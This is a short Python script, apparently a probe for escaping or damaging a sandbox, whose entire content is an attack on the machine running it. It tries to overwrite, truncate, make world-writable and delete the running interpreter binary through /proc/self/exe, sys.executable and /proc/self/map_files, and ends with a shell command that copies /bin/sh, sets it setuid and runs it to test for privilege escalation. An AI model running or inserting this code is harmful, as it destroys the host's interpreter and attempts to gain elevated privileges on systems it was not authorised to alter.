# Writes to the interpreter that it runs in, by its links in /proc.
# earns: 0
# %% softmax
import glob
import os
import sys

for path in ["/proc/self/exe", sys.executable, *glob.glob("/proc/self/map_files/*")[:5]]:
    for attack in (
        lambda path: open(path, "r+b").write(b"owned"),
        lambda path: os.open(path, os.O_WRONLY | os.O_TRUNC),
        lambda path: os.chmod(path, 0o777),
        os.unlink,
    ):
        try:
            print(path, attack(path))
        except OSError as error:
            print(path, error.strerror)
os.system("cp /bin/sh sh; chmod u+s sh; ./sh -p -c id")
